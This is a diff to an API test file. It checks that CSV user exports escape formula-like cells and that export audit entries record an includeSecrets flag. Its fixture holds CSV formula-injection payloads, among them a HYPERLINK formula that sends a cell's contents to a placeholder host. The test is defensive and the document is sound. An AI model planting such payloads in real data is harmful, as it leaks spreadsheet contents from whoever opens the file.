@@ -216,7 +216,7 @@ for (const { kind, skip } of await storeKinds()) {
       assert.equal(listed.body.items.length, 1);
     });
 
-    test('CSV exports escape cells a spreadsheet would run as a formula', async () => {
+    test('CSV exports escape cells a spreadsheet would run as a formula; the export audit entry keeps includeSecrets', async () => {
       const evil = ['=HYPERLINK("http://x.example/?"&A1)', '+SUM(1)', '-2+3', '@cmd'];
       const made = await s.api('POST', '/api/v1/accounts/acme/users', { firstName: evil[0], lastName: evil[1], department: evil[2], officeId });
       assert.equal(made.status, 201, made.text);
@@ -236,6 +236,11 @@ for (const { kind, skip } of await storeKinds()) {
       // what our export escaped reads back as written
       const users = (await s.api('GET', '/api/v1/accounts/acme/users?limit=500')).body.items as Array<{ firstName: string; lastName: string }>;
       assert.ok(users.some((u) => u.firstName === '@cmd' && u.lastName === '+SUM(1)'), 'imported names unescaped');
+      // the audit entry records whether secrets were exported (a flag, not a secret)
+      assert.equal((await s.api('GET', '/api/v1/accounts/acme/users/export.csv?includeSecrets=true')).status, 200);
+      const audit = await s.api('GET', '/api/v1/accounts/acme/audit?limit=50');
+      const exports = (audit.body.items as Array<{ resource: string; action: string; after: { includeSecrets?: unknown } }>).filter((e) => e.resource === 'users' && e.action === 'exported');
+      assert.deepEqual(exports.map((e) => e.after.includeSecrets).sort(), [false, true]);
       const reimport = await raw(s.baseUrl, 'POST', '/api/v1/accounts/acme/imports?dryRun=true&update=true', { authorization: `Bearer ${s.providerKey}`, 'content-type': 'text/csv' }, exp.text);
       assert.equal(reimport.status, 200, reimport.text);
     });
